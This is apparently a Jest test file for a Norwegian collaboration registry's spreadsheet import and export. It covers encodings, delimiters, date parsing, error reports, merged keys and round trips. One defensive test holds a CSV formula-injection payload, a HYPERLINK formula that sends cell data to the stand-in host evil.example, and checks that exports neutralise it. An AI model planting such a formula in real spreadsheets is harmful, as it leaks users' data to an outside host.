import fs from 'node:fs';
import path from 'node:path';
import writeXlsxFile from 'write-excel-file/node';
import { registry } from '../helpers/cli';
import { zipSync } from 'fflate';
import { startTestServer, TestServer } from '../helpers/server';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer({ seeds: true });
});
afterAll(() => server.close());

const IMPORT = `mutation($input: TableImportInput!) {
  tableImport(input: $input) {
    report { applied format encoding delimiter created updated unchanged
      columns { header field note }
      rows { row key action fields }
      problems { row column field message } }
    userErrors { field code message }
  }
}`;

const b64 = (bytes: Uint8Array | string) => Buffer.from(bytes).toString('base64');
/** Text in Windows-1252, as Excel's plain "CSV" saves it (æ, ø, å are single bytes). */
const cp1252 = (text: string) => Buffer.from([...text].map((c) => ({ æ: 0xe6, ø: 0xf8, å: 0xe5, Æ: 0xc6, Ø: 0xd8, Å: 0xc5, '–': 0x96, '“': 0x93, '”': 0x94, '€': 0x80 })[c] ?? c.charCodeAt(0)));

async function importTable(input: Record<string, unknown>, token: string | null = server.adminToken) {
  const res = await server.gqlAs(token, IMPORT, { input });
  return res;
}

const collaborationCount = async () => (await server.gql('{ collaborations(first: 1) { totalCount } }')).data.collaborations.totalCount as number;

const COORDINATOR_SHEET = [
  'Tittel;Type;Enheter;Tema;Oppstart;Slutt;Beskrivelse;Notater',
  'Språkløft i barnehagene på Grünerløkka;Forskningsprosjekt;"Bydel Grünerløkka:LEAD; OsloMet – storbyuniversitetet:partner";sprak-barnehage;01.08.2021;6/2023;"Språkarbeid i barnehager – “Språkløft”, 200 000 €";intern merknad',
  'Hjemmetjenester i Drammen;Innovasjonsprosjekt;"3301; usn";Sykehjem og hjemmetjenester;2022;2023-05;;',
].join('\r\n');

describe('tableImport: a coordinator’s spreadsheet', () => {
  it('reads a Windows-1252, semicolon-separated file with Norwegian headers as a dry run that writes nothing', async () => {
    const before = await server.snapshot();
    const res = await importTable({ type: 'COLLABORATIONS', file: b64(cp1252(COORDINATOR_SHEET)) });
    const report = res.data.tableImport.report;
    expect(res.data.tableImport.userErrors).toEqual([]);
    expect(report).toMatchObject({ applied: false, format: 'CSV', encoding: 'WINDOWS-1252', delimiter: ';', created: 2, updated: 0, unchanged: 0, problems: [] });
    expect(report.columns).toEqual([
      { header: 'Tittel', field: 'title', note: null },
      { header: 'Type', field: 'kind', note: null },
      { header: 'Enheter', field: 'units', note: null },
      { header: 'Tema', field: 'topics', note: null },
      { header: 'Oppstart', field: 'startDate', note: null },
      { header: 'Slutt', field: 'endDate', note: null },
      { header: 'Beskrivelse', field: 'summary', note: null },
      { header: 'Notater', field: null, note: 'not a recognised column name; name its field in a mapping file to use it' },
    ]);
    expect(report.rows).toEqual([
      { row: 2, key: 'sprakloft-i-barnehagene-pa-grunerlokka', action: 'CREATE', fields: [] },
      { row: 3, key: 'hjemmetjenester-i-drammen', action: 'CREATE', fields: [] },
    ]);
    expect(await server.snapshot()).toEqual(before);
  });

  it('applies the same file: records with units by name and number, roles, topics by key or name, typed dates, and history', async () => {
    const res = await importTable({ type: 'COLLABORATIONS', file: b64(cp1252(COORDINATOR_SHEET)), apply: true });
    expect(res.data.tableImport.report).toMatchObject({ applied: true, created: 2, problems: [] });
    const c = await server.gql(`{ collaboration(key: "sprakloft-i-barnehagene-pa-grunerlokka") {
      title kind startDate endDate summary units { role unit { key } } topics { key } history(first: 5) { nodes { action actor } } } }`);
    expect(c.data.collaboration).toMatchObject({
      title: 'Språkløft i barnehagene på Grünerløkka',
      kind: 'RESEARCH_PROJECT',
      startDate: '2021-08-01',
      endDate: '2023-06-30',
      // Windows-1252's own characters (0x80–0x9F), which Latin-1 would read as control characters.
      summary: 'Språkarbeid i barnehager – “Språkløft”, 200 000 €',
      units: [
        { role: 'LEAD', unit: { key: 'bydel-grunerlokka' } },
        { role: 'PARTNER', unit: { key: 'oslomet' } },
      ],
      topics: [{ key: 'sprak-barnehage' }],
    });
    expect(c.data.collaboration.history.nodes).toEqual([{ action: 'CREATE', actor: 'test-admin-1' }]);
    const d = await server.gql(`{ collaboration(key: "hjemmetjenester-i-drammen") { kind startDate endDate units { role unit { key } } topics { key } } }`);
    expect(d.data.collaboration).toEqual({
      kind: 'INNOVATION_PROJECT',
      startDate: '2022-01-01',
      endDate: '2023-05-31',
      units: [
        { role: 'PARTNER', unit: { key: 'kommune-3301' } },
        { role: 'PARTNER', unit: { key: 'usn' } },
      ],
      topics: [{ key: 'sykehjem-hjemmetjenester' }],
    });
  });

  it('imports the same file again as unchanged, and a changed cell as an update of that field only', async () => {
    const again = await importTable({ type: 'COLLABORATIONS', file: b64(cp1252(COORDINATOR_SHEET)) });
    expect(again.data.tableImport.report).toMatchObject({ created: 0, updated: 0, unchanged: 2 });
    const edited = 'Tittel,Status\r\n"Hjemmetjenester i Drammen",avsluttet\r\n';
    const res = await importTable({ type: 'COLLABORATIONS', file: b64(edited), apply: true });
    expect(res.data.tableImport.report.rows).toEqual([{ row: 2, key: 'hjemmetjenester-i-drammen', action: 'UPDATE', fields: ['status'] }]);
    const d = await server.gql(`{ collaboration(key: "hjemmetjenester-i-drammen") { status kind units { unit { key } } } }`);
    expect(d.data.collaboration).toEqual({ status: 'COMPLETED', kind: 'INNOVATION_PROJECT', units: [{ unit: { key: 'kommune-3301' } }, { unit: { key: 'usn' } }] });
  });

  it('reports every row it cannot read with row, column and reason, and writes nothing even when asked to apply', async () => {
    const before = await server.snapshot();
    const sheet = [
      'key\ttitle\tkind\tunits\tstartDate\tendDate',
      'ny-1\tGod rad\tRESEARCH_PROJECT\tbydel-alna:LEAD\t2021-01-01\t',
      'ny-2\tHøstprosjekt\tRESEARCH_PROJECT\tbydel-alna\thøsten 2021\t',
      'ny-3\tUkjent enhet\tRESEARCH_PROJECT\tBydel Atlantis\t\t',
      'ny-4\tFeil type\tsamarbeidsprosjekt\tbydel-alna\t\t',
      'ny-5\tFeil rolle\tNETWORK\tbydel-alna:SJEF\t\t',
      'ny-6\tBaklengs\tNETWORK\tbydel-alna\t2022-01-01\t2021-01-01',
      '\t\t\t\t\t',
      'ny-8\t\tNETWORK\tbydel-alna\t\t',
    ].join('\n');
    const res = await importTable({ type: 'COLLABORATIONS', file: b64(sheet), apply: true });
    const report = res.data.tableImport.report;
    expect(report.applied).toBe(false);
    expect(report.delimiter).toBe('\t');
    expect(report.problems).toEqual([
      {
        row: 3,
        column: 'startDate',
        field: 'startDate',
        message: '"høsten 2021" names a part of the year, not a date: the registry stores days and does not guess which day a season or quarter starts; write the month it starts ("august 2021" or "8/2021") or the day',
      },
      { row: 4, column: 'units', field: 'units', message: 'no unit "Bydel Atlantis" (looked for its key, name and numbers)' },
      { row: 5, column: 'kind', field: 'kind', message: expect.stringMatching(/^"samarbeidsprosjekt" is not a CollaborationKind: use one of RESEARCH_PROJECT, .*OTHER/) },
      { row: 6, column: 'units', field: 'units', message: expect.stringMatching(/^"SJEF" is not a ParticipantRole: use one of LEAD, PARTNER/) },
      { row: 7, column: 'endDate', field: 'endDate', message: expect.stringContaining('startDate') },
      { row: 9, column: 'title', field: 'title', message: 'is required: the cell is empty' },
    ]);
    expect(await server.snapshot()).toEqual(before);
  });

  it('names the field or column of every problem: a required field the file has no column for, a row repeating another', async () => {
    const before = await server.snapshot();
    const PROBLEMS = (type: string, sheet: string) => importTable({ type, file: b64(sheet), apply: true }).then((res) => res.data.tableImport.report.problems);
    expect(await PROBLEMS('COLLABORATIONS', 'Tittel;Enheter\nUten type;bydel-alna\n')).toEqual([
      { row: 2, column: null, field: 'kind', message: 'kind is required, and the file has no column for it: add one ("kind", "type", "samarbeidsform"…) or map a column to kind' },
    ]);
    expect(await PROBLEMS('COLLABORATIONS', 'Tittel;Type\nUten enheter;Nettverk\n')).toEqual([
      { row: 2, column: null, field: 'units', message: 'units must name at least one unit, and the file has no column for it: add one ("units", "enheter", "parter"…) or map a column to units' },
    ]);
    expect(await PROBLEMS('COLLABORATIONS', 'key;Tittel;Type;Enheter\nuten-tittel;;Nettverk;bydel-alna\n')).toEqual([{ row: 2, column: 'Tittel', field: 'title', message: 'is required: the cell is empty' }]);
    // Rows found by the same name, or with the same key, are one record written twice.
    expect(await PROBLEMS('COLLABORATIONS', 'Tittel;Type;Enheter\nTo ganger;Nettverk;bydel-alna\nTo ganger;Nettverk;bydel-alna\n')).toEqual([
      { row: 3, column: 'Tittel', field: 'title', message: 'also used by row 2: a file holds each record once' },
    ]);
    expect(await PROBLEMS('COLLABORATIONS', 'Nøkkel;Tittel;Type;Enheter\nto-ganger;En;Nettverk;bydel-alna\nny-1;Ny;Nettverk;bydel-alna\nto-ganger;To;Nettverk;bydel-alna\n')).toEqual([
      { row: 4, column: 'Nøkkel', field: 'key', message: 'also used by row 2: a file holds each record once' },
    ]);
    expect(await PROBLEMS('UNITS', 'Navn;Kommunenummer\nOslo;0301\nOslo kommune;301\n')).toEqual([
      { row: 3, column: 'Kommunenummer', field: 'identifiers.municipalityNumber', message: 'also used by row 2: a file holds each record once' },
    ]);
    expect(await server.snapshot()).toEqual(before);

    // A person needs no affiliation: a table without the column creates people without one.
    const people = await importTable({ type: 'PEOPLE', file: b64('Navn;E-post\nUten arbeidssted;uten@example.no\n') });
    expect(people.data.tableImport.report).toMatchObject({ problems: [], rows: [{ row: 2, key: 'uten-arbeidssted', action: 'CREATE' }] });

    const csv = path.join(server.dir, 'uten-type.csv');
    fs.writeFileSync(csv, 'Tittel;Enheter\nUten type;bydel-alna\n');
    const cli = await registry(['import-table', csv, '--type', 'collaborations'], server.databaseUrl);
    expect(cli.stdout).toContain('\n  row 2: kind is required, and the file has no column for it: add one ("kind", "type", "samarbeidsform"…) or map a column to kind\n');
  });

  it('reads XLSX: date cells, numbers for kommunenummer (leading zero lost by Excel) and organisation numbers', async () => {
    const sheet = [
      ['Prosjektnavn', 'Samarbeidsform', 'Parter', 'Fra', 'Til'],
      ['Bydelsløft Oslo', 'Nettverk', '301; 971035854:LEAD', new Date(Date.UTC(2020, 2, 15)), 44927],
    ].map((row) => row.map((value) => ({ value, ...(value instanceof Date ? { format: 'dd.mm.yyyy' } : {}) })));
    const file = await writeXlsxFile(sheet as never).toBuffer();
    const res = await importTable({ type: 'COLLABORATIONS', file: b64(file) });
    const report = res.data.tableImport.report;
    expect(report).toMatchObject({ format: 'XLSX', encoding: null, problems: [], created: 1 });
    await importTable({ type: 'COLLABORATIONS', file: b64(file), apply: true });
    const c = await server.gql(`{ collaboration(key: "bydelsloft-oslo") { kind startDate endDate units { role unit { key } } } }`);
    expect(c.data.collaboration).toEqual({
      kind: 'NETWORK',
      startDate: '2020-03-15',
      endDate: '2023-01-01',
      units: [
        { role: 'PARTNER', unit: { key: 'kommune-0301' } },
        { role: 'LEAD', unit: { key: 'uio' } },
      ],
    });
  });

  it('reads months by Norwegian or English name and two-digit years; refuses a season naming row and column, writing nothing', async () => {
    const sheet = [
      'Tittel;Type;Enheter;Oppstart;Slutt',
      'Månedsnavn på norsk;Nettverk;bydel-alna;august 2021;1. juni 2023',
      'Month names in English;Nettverk;bydel-alna;aug. 2021;Dec 2022',
      'Tosifret år;Nettverk;bydel-alna;1.8.21;31.12.23',
    ].join('\n');
    const res = await importTable({ type: 'COLLABORATIONS', file: b64(sheet), apply: true });
    expect(res.data.tableImport.report).toMatchObject({ applied: true, created: 3, problems: [] });
    const dates = async (key: string) => (await server.gql(`query($key: String!) { collaboration(key: $key) { startDate endDate } }`, { key })).data.collaboration;
    expect(await dates('manedsnavn-pa-norsk')).toEqual({ startDate: '2021-08-01', endDate: '2023-06-01' });
    expect(await dates('month-names-in-english')).toEqual({ startDate: '2021-08-01', endDate: '2022-12-31' });
    expect(await dates('tosifret-ar')).toEqual({ startDate: '2021-08-01', endDate: '2023-12-31' });

    const before = await server.snapshot();
    const seasons = ['Tittel;Oppstart;Slutt', 'Månedsnavn på norsk;våren 2022;høsten 2024'].join('\n');
    const refused = await importTable({ type: 'COLLABORATIONS', file: b64(seasons), apply: true });
    expect(refused.data.tableImport.report.applied).toBe(false);
    expect(refused.data.tableImport.report.problems).toEqual([
      { row: 2, column: 'Oppstart', field: 'startDate', message: expect.stringMatching(/^"våren 2022" names a part of the year, not a date: .* write the month it starts \("august 2021" or "8\/2021"\) or the day$/) },
      { row: 2, column: 'Slutt', field: 'endDate', message: expect.stringMatching(/^"høsten 2024" names a part of the year, not a date: .* write the month it ends \("desember 2021" or "12\/2021"\) or the day$/) },
    ]);
    expect(await server.snapshot()).toEqual(before);
  });

  it('reads the status and role words people write (aktiv, leder, deltaker, prosjektansvarlig)', async () => {
    await server.gql(`mutation { personCreate(input: { key: "synonym-person", name: "Synonym Person" }) { userErrors { message } } }`);
    const sheet = ['Tittel;Type;Status;Enheter;Personer', 'Synonymprøve;Nettverk;aktiv;"bydel-alna:leder; oslomet:deltaker";synonym-person:prosjektansvarlig'].join('\n');
    const res = await importTable({ type: 'COLLABORATIONS', file: b64(sheet), apply: true });
    expect(res.data.tableImport.report).toMatchObject({ applied: true, created: 1, problems: [] });
    const c = await server.gql(`{ collaboration(key: "synonymprove") { status units { role unit { key } } people { role person { key } } } }`);
    expect(c.data.collaboration).toEqual({
      status: 'ACTIVE',
      units: [
        { role: 'LEAD', unit: { key: 'bydel-alna' } },
        { role: 'PARTNER', unit: { key: 'oslomet' } },
      ],
      people: [{ role: 'PROJECT_LEADER', person: { key: 'synonym-person' } }],
    });
  });

  it('uses a mapping file for headers it does not know, and refuses a mapping that names a missing column or field', async () => {
    const sheet = 'Aktivitetens navn|Hva slags|Hvem\nMapping-test|NETWORK|bydel-alna\n';
    const mapped = await importTable({ type: 'COLLABORATIONS', file: b64(sheet), mapping: { 'Aktivitetens navn': 'title', 'Hva slags': 'kind', Hvem: 'units' } });
    expect(mapped.data.tableImport.report).toMatchObject({ delimiter: '|', created: 1, problems: [] });
    const wrong = await importTable({ type: 'COLLABORATIONS', file: b64(sheet), mapping: { Hvor: 'title', 'Hva slags': 'colour' } });
    expect(wrong.data.tableImport.report).toBeNull();
    expect(wrong.data.tableImport.userErrors).toEqual([
      { field: 'mapping.Hvor', code: 'INVALID', message: 'the file has no column "Hvor" (its columns: Aktivitetens navn, Hva slags, Hvem)' },
      { field: 'mapping.Hva slags', code: 'INVALID', message: expect.stringMatching(/^"colour" is not a field of collaborations \(fields: key, title, /) },
      { field: 'file', code: 'INVALID', message: expect.stringMatching(/^no column says which record a row is/) },
    ]);
  });

  it('imports units and people, finding parents and affiliations by name or number', async () => {
    const units = 'Navn;Type;Overordnet;Kortnavn\nBydel Alna, helsestasjonen;tjenesteområde;030112;HS Alna\n';
    const u = await importTable({ type: 'UNITS', file: b64(units), apply: true });
    expect(u.data.tableImport.report).toMatchObject({ applied: true, created: 1, problems: [] });
    const unit = await server.gql(`{ unit(key: "bydel-alna-helsestasjonen") { name kind sector shortName parent { key } } }`);
    expect(unit.data.unit).toEqual({ name: 'Bydel Alna, helsestasjonen', kind: 'MUNICIPAL_SERVICE', sector: 'MUNICIPAL', shortName: 'HS Alna', parent: { key: 'bydel-alna' } });
    const people = 'Navn,E-post,Stilling,Arbeidssted\nKari Nordmann,kari@example.no,Helsesykepleier,HS Alna:helsesykepleier\n';
    const p = await importTable({ type: 'PEOPLE', file: b64(people), apply: true });
    expect(p.data.tableImport.report).toMatchObject({ applied: true, created: 1, problems: [] });
    const person = await server.gql(`{ person(key: "kari-nordmann") { name email title affiliations { role unit { key } } } }`);
    expect(person.data.person).toEqual({ name: 'Kari Nordmann', email: 'kari@example.no', title: 'Helsesykepleier', affiliations: [{ role: 'helsesykepleier', unit: { key: 'bydel-alna-helsestasjonen' } }] });
  });

  it('finds a unit by its name and numbers when they all name it, and refuses numbers that name different units', async () => {
    const agreeing = 'Navn;Organisasjonsnummer;Kommunenummer;Beskrivelse\nOslo kommune;958935420;301;Ny beskrivelse\n';
    const res = await importTable({ type: 'UNITS', file: b64(agreeing) });
    expect(res.data.tableImport.report).toMatchObject({ problems: [], rows: [{ row: 2, key: 'kommune-0301', action: 'UPDATE', fields: ['description'] }] });

    const before = await server.snapshot();
    const disagreeing = 'Navn;Organisasjonsnummer;Kommunenummer;Beskrivelse\nOslo kommune;971035854;0301;Ny beskrivelse\n';
    const refused = await importTable({ type: 'UNITS', file: b64(disagreeing), apply: true });
    expect(refused.data.tableImport.report).toMatchObject({ applied: false, rows: [] });
    expect(refused.data.tableImport.report.problems).toEqual([
      {
        row: 2,
        column: 'Kommunenummer',
        field: 'identifiers.municipalityNumber',
        message: 'Organisasjonsnummer "971035854" is uio, Kommunenummer "0301" is kommune-0301: the numbers name different units; correct them or add a key column',
      },
    ]);
    expect(await server.snapshot()).toEqual(before);
  });

  it('reads Excel’s “Unicode text” (UTF-16, tab-separated) and UTF-8 with a byte-order mark alike', async () => {
    const text = 'Tittel\tType\tEnheter\nUTF-prøve på Østensjø\tnettverk\tBydel Østensjø\n';
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    const utf8 = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf8')]);
    for (const [file, encoding] of [[utf16, 'UTF-16'], [utf8, 'UTF-8']] as const) {
      const res = await importTable({ type: 'COLLABORATIONS', file: b64(file) });
      expect(res.data.tableImport.report).toMatchObject({ encoding, delimiter: '\t', problems: [], rows: [{ row: 2, key: 'utf-prove-pa-ostensjo', action: 'CREATE', fields: [] }] });
      expect(res.data.tableImport.report.columns.map((c: { header: string }) => c.header)).toEqual(['Tittel', 'Type', 'Enheter']);
    }
  });

  it('warns in the dry run that a new row is probably registered already, naming the record to update instead', async () => {
    const sheet = [
      'Tittel;Type;Enheter',
      // The university's own entry of Drammen's recovery project, worded its way and at its own level.
      'Recovery-orientert praksis i psykisk helse og rus (USN);Forskningsprosjekt;"usn:LEAD; Drammen kommune"',
      'Helt nytt tiltak om sykkelparkering;Nettverk;Drammen kommune',
    ].join('\n');
    const res = await importTable({ type: 'COLLABORATIONS', file: b64(sheet) });
    const rows = res.data.tableImport.report.rows;
    expect(rows.map((r: { action: string }) => r.action)).toEqual(['CREATE', 'CREATE']);
    const again = await server.gql(`mutation($input: TableImportInput!) { tableImport(input: $input) { report { rows { row possibleDuplicates { key title score } } } } }`, {
      input: { type: 'COLLABORATIONS', file: b64(sheet) },
    });
    const [first, second] = again.data.tableImport.report.rows;
    expect(first.possibleDuplicates).toEqual([{ key: 'drammen-usn-recovery', title: 'Recoveryorientert praksis i psykisk helse og rus – Drammen kommune', score: expect.any(Number) }]);
    expect(first.possibleDuplicates[0].score).toBeGreaterThanOrEqual(0.7);
    expect(second.possibleDuplicates).toEqual([]);
  });

  it('reports the same possible duplicates when applying as in the dry run, never a new row as a duplicate of itself', async () => {
    const DUPLICATES = `mutation($input: TableImportInput!) { tableImport(input: $input) { report { applied rows { row key action possibleDuplicates { key } } } } }`;
    const sheet = b64(['Tittel;Type;Enheter', 'Recovery-orientert praksis i psykisk helse og rus (USN-kopi);Forskningsprosjekt;"usn:LEAD; Drammen kommune"', 'Egen rad som ikke finnes fra før;Nettverk;bydel-alna'].join('\n'));
    const dry = await server.gql(DUPLICATES, { input: { type: 'COLLABORATIONS', file: sheet } });
    const expected = [
      { row: 2, key: 'recovery-orientert-praksis-i-psykisk-helse-og-rus-usn-kopi', action: 'CREATE', possibleDuplicates: [{ key: 'drammen-usn-recovery' }] },
      { row: 3, key: 'egen-rad-som-ikke-finnes-fra-for', action: 'CREATE', possibleDuplicates: [] },
    ];
    expect(dry.data.tableImport.report).toEqual({ applied: false, rows: expected });
    const applied = await server.gql(DUPLICATES, { input: { type: 'COLLABORATIONS', file: sheet, apply: true } });
    expect(applied.data.tableImport.report).toEqual({ applied: true, rows: expected });

    const csv = path.join(server.dir, 'selvduplikat.csv');
    fs.writeFileSync(csv, 'Tittel;Type;Enheter\nEnda en rad som ikke finnes;Nettverk;bydel-alna\n');
    const cli = await registry(['import-table', csv, '--type', 'collaborations', '--apply'], server.databaseUrl);
    expect(cli.stdout).toContain('  row 2: CREATE enda-en-rad-som-ikke-finnes\n1 to create, 0 to change, 0 unchanged; applied\n');
    expect(cli.stdout).not.toContain('probably registered already');
  });

  it('lets rows refer to the file’s own new records by key or name, written before or after them', async () => {
    const sheet = ['key;title;kind;units;parent', 'egen-del;Egen del;NETWORK;bydel-alna;Egen helhet', 'egen-helhet;Egen helhet;NETWORK;bydel-alna;', 'egen-del-2;Egen del 2;NETWORK;bydel-alna;egen-helhet'].join('\n');
    const res = await importTable({ type: 'COLLABORATIONS', file: b64(sheet), apply: true });
    expect(res.data.tableImport.report).toMatchObject({ applied: true, created: 3, problems: [] });
    const whole = await server.gql(`{ collaboration(key: "egen-helhet") { children { key } } }`);
    expect(whole.data.collaboration.children).toEqual([{ key: 'egen-del' }, { key: 'egen-del-2' }]);
  });

  it('refuses a name that fits several records, asking for the key', async () => {
    await importTable({ type: 'UNITS', file: b64('key,name,kind,parent\nto-1,Tvilling,OTHER,\nto-2,Tvilling,OTHER,\n'), apply: true });
    const res = await importTable({ type: 'COLLABORATIONS', file: b64('title,kind,units\nTvillingprosjekt,NETWORK,Tvilling\n') });
    expect(res.data.tableImport.report.problems).toEqual([{ row: 2, column: 'units', field: 'units', message: '"Tvilling" names 2 units (to-1, to-2): write the key' }]);
  });
});

describe('tableImport: keys of merged collaborations', () => {
  const CREATE = `mutation($input: CollaborationCreateInput!) { collaborationCreate(input: $input) { collaboration { id key version } userErrors { message } } }`;
  const ROWS = `mutation($input: TableImportInput!) { tableImport(input: $input) { report { applied rows { row key action fields mergedFrom } problems { row column field message } } } }`;
  const create = async (input: Record<string, unknown>) => {
    const res = await server.gql(CREATE, { input: { kind: 'NETWORK', units: [{ unit: 'bydel-alna', role: 'LEAD' }], ...input } });
    expect(res.data.collaborationCreate.userErrors).toEqual([]);
    return res.data.collaborationCreate.collaboration as { id: string; key: string; version: number };
  };

  it('reads a merged-away key as the collaboration it went into, in the key column (the report says so) and in references', async () => {
    const keep = await create({ key: 'sammenslatt-beholdt', title: 'Beholdt', summary: 'Før' });
    const remove = await create({ key: 'sammenslatt-fjernet', title: 'Fjernet' });
    const merged = await server.gql(`mutation($input: CollaborationMergeInput!) { collaborationMerge(input: $input) { userErrors { message } } }`, {
      input: { keep: keep.key, keepVersion: keep.version, remove: remove.key, removeVersion: remove.version },
    });
    expect(merged.data.collaborationMerge.userErrors).toEqual([]);

    const sheet = b64(['key;title;kind;units;summary;parent', 'sammenslatt-fjernet;;;;Etter;', 'underprosjekt-av-fjernet;Underprosjekt;NETWORK;bydel-alna;;sammenslatt-fjernet'].join('\n'));
    const dry = await server.gql(ROWS, { input: { type: 'COLLABORATIONS', file: sheet } });
    expect(dry.data.tableImport.report).toEqual({
      applied: false,
      rows: [
        { row: 2, key: 'sammenslatt-beholdt', action: 'UPDATE', fields: ['summary'], mergedFrom: 'sammenslatt-fjernet' },
        { row: 3, key: 'underprosjekt-av-fjernet', action: 'CREATE', fields: [], mergedFrom: null },
      ],
      problems: [],
    });
    const applied = await server.gql(ROWS, { input: { type: 'COLLABORATIONS', file: sheet, apply: true } });
    expect(applied.data.tableImport.report.applied).toBe(true);
    const state = await server.gql(`{
      kept: collaboration(key: "sammenslatt-beholdt") { key title summary children { key } }
      removed: collaboration(key: "sammenslatt-fjernet") { key }
      sub: collaboration(key: "underprosjekt-av-fjernet") { parent { key } } }`);
    expect(state.data).toEqual({
      kept: { key: 'sammenslatt-beholdt', title: 'Beholdt', summary: 'Etter', children: [{ key: 'underprosjekt-av-fjernet' }] },
      removed: { key: 'sammenslatt-beholdt' },
      sub: { parent: { key: 'sammenslatt-beholdt' } },
    });

    const csv = path.join(server.dir, 'sammenslatt.csv');
    fs.writeFileSync(csv, 'key;summary\nsammenslatt-fjernet;Igjen\n');
    const cli = await registry(['import-table', csv, '--type', 'collaborations'], server.databaseUrl);
    expect(cli.stdout).toContain('\n  row 2: UPDATE sammenslatt-beholdt (summary), given as sammenslatt-fjernet, which was merged into it\n');
  });

  it('still refuses the key of a deleted collaboration that went into none, naming row and column, and writes nothing', async () => {
    const gone = await create({ key: 'slettet-samarbeid', title: 'Slettet' });
    const deleted = await server.gql(`mutation($input: CollaborationDeleteInput!) { collaborationDelete(input: $input) { userErrors { message } } }`, { input: { id: gone.key, version: gone.version } });
    expect(deleted.data.collaborationDelete.userErrors).toEqual([]);
    const before = await server.snapshot();
    const res = await server.gql(ROWS, { input: { type: 'COLLABORATIONS', file: b64('Nøkkel;Tittel;Type;Enheter\nslettet-samarbeid;Slettet;NETWORK;bydel-alna\n'), apply: true } });
    expect(res.data.tableImport.report.problems).toEqual([
      { row: 2, column: 'Nøkkel', field: 'key', message: 'belongs to a deleted collaboration; restore it (recordRestore) or choose another key' },
    ]);
    expect(await server.snapshot()).toEqual(before);
  });
});

describe('tableExport: the round trip', () => {
  it.each(['UNITS', 'PEOPLE', 'AGREEMENTS', 'COLLABORATIONS'])('%s exported as CSV and as XLSX imports back unchanged', async (type) => {
    for (const format of ['CSV', 'XLSX']) {
      const exported = await server.gql(`query($t: TableType!, $f: TableFormat!) { tableExport(type: $t, format: $f) { fileName mediaType base64 } }`, { t: type, f: format });
      expect(exported.data.tableExport.fileName).toBe(`${type.toLowerCase()}.${format.toLowerCase()}`);
      const res = await importTable({ type, file: exported.data.tableExport.base64 });
      const report = res.data.tableImport.report;
      expect(report.problems).toEqual([]);
      expect(report.rows.length).toBeGreaterThan(0);
      expect(report.rows.filter((r: { action: string }) => r.action !== 'UNCHANGED')).toEqual([]);
    }
  });

  it('imports back unchanged whatever the stored values hold: separators, quotes, line breaks, spaces at the ends, formula-like text', async () => {
    const created = await server.gql(`mutation($input: CollaborationCreateInput!) { collaborationCreate(input: $input) { userErrors { field message } } }`, {
      input: {
        key: 'vanskelige-verdier',
        title: ' Tittel med "sitat"; semikolon, og mellomrom ',
        summary: '  Første linje;\r\nandre linje\n"sitert"\t ',
        kind: 'NETWORK',
        units: [{ unit: 'bydel-alna', role: 'LEAD' }],
        keywords: ['a;b', ' mellomrom ', '"sitat"', 'linje\nskift', '=1+2', "'=3", '@navn', '-minus', "'apostrof", 'vanlig'],
        links: ['https://example.no/a;b', 'https://example.no/a,b', 'https://example.no/?q=a%3Bb'],
      },
    });
    expect(created.data.collaborationCreate.userErrors).toEqual([]);
    await server.services.snapshot.import({
      format: 'collaboration-registry',
      version: 1,
      units: [{ key: 'vanskelig-enhet', name: '=Enhet; med "alt" ', kind: 'OTHER', parent: 'bydel-alna', identifiers: { ror: ' 05xyz ' }, description: "'+ linje 1\nlinje 2;" }],
      people: [
        {
          key: 'vanskelig-person',
          name: ' Per; "Pelle" ',
          title: '=SUM(A1)',
          affiliations: [
            { unit: 'bydel-alna', role: ' leder; fag: helse ' },
            { unit: 'oslomet', role: '' },
            { unit: 'vanskelig-enhet', role: 'rolle:med:kolon' },
          ],
        },
        { key: 'person-uten-tilknytning', name: 'Uten tilknytning', affiliations: [] },
      ],
      agreements: [{ key: 'vanskelig-avtale', title: '@Avtale', kind: 'INTENT', parties: ['bydel-alna', 'oslomet'], contacts: [{ person: 'vanskelig-person', role: '"koordinator"; ' }] }],
    });
    const before = await server.snapshot();
    for (const format of ['CSV', 'XLSX']) {
      for (const type of ['COLLABORATIONS', 'UNITS', 'PEOPLE', 'AGREEMENTS']) {
        const exported = await server.gql(`query($t: TableType!, $f: TableFormat!) { tableExport(type: $t, format: $f) { base64 } }`, { t: type, f: format });
        const report = (await importTable({ type, file: exported.data.tableExport.base64, apply: true })).data.tableImport.report;
        expect({ format, type, problems: report.problems, changed: report.rows.filter((r: { action: string }) => r.action !== 'UNCHANGED') }).toEqual({ format, type, problems: [], changed: [] });
      }
    }
    expect(await server.snapshot()).toEqual(before);
  });

  it('reads lists as people type them (a; b), with a quoted item kept whole', async () => {
    // The keywords cell holds: a; b ;"c; d"  (CSV doubles its quotes).
    const sheet = 'Tittel;Type;Enheter;Nøkkelord;Lenker\nSkrevne lister;Nettverk;bydel-alna;"a; b ;""c; d""";"https://example.no/x\nhttps://example.no/y"\n';
    const res = await importTable({ type: 'COLLABORATIONS', file: b64(sheet), apply: true });
    expect(res.data.tableImport.report).toMatchObject({ applied: true, problems: [] });
    const c = await server.gql(`{ collaboration(key: "skrevne-lister") { keywords links } }`);
    expect(c.data.collaboration).toEqual({ keywords: ['a', 'b', 'c; d'], links: ['https://example.no/x', 'https://example.no/y'] });
  });

  it('guards cells that a spreadsheet would run as formulas, and reads them back as typed', async () => {
    const title = '=HYPERLINK("http://evil.example/?"&A1,"Klikk")';
    await importTable({ type: 'COLLABORATIONS', file: b64(`key\ttitle\tkind\tunits\nformel\t${title}\tNETWORK\tbydel-alna\n`), apply: true });
    const exported = await server.gql(`{ tableExport(type: COLLABORATIONS, format: CSV) { base64 } }`);
    const line = Buffer.from(exported.data.tableExport.base64, 'base64').toString('utf8').split('\r\n').find((l) => l.startsWith('formel;'))!;
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Klikk"")"`);
    const back = await importTable({ type: 'COLLABORATIONS', file: exported.data.tableExport.base64 });
    expect(back.data.tableImport.report.rows.find((r: { key: string }) => r.key === 'formel')).toMatchObject({ action: 'UNCHANGED' });
    expect((await server.gql('{ collaboration(key: "formel") { title } }')).data.collaboration.title).toBe(title);
  });

  it('exports with a byte-order mark and ";" so Excel opens æøå in columns', async () => {
    const exported = await server.gql(`{ tableExport(type: UNITS, format: CSV) { base64 } }`);
    const bytes = Buffer.from(exported.data.tableExport.base64, 'base64');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
